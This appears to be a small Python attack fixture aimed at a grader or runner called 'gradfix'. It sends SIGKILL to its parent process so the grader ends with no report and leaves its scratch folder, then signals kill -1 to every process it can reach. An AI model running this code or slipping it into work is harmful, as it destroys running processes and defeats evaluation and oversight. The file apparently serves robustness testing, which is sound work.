"""Attack: kill gradfix (the parent process), so that it ends with no report and leaves its
scratch folder behind. Then every process it can signal, for good measure.
"""

import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
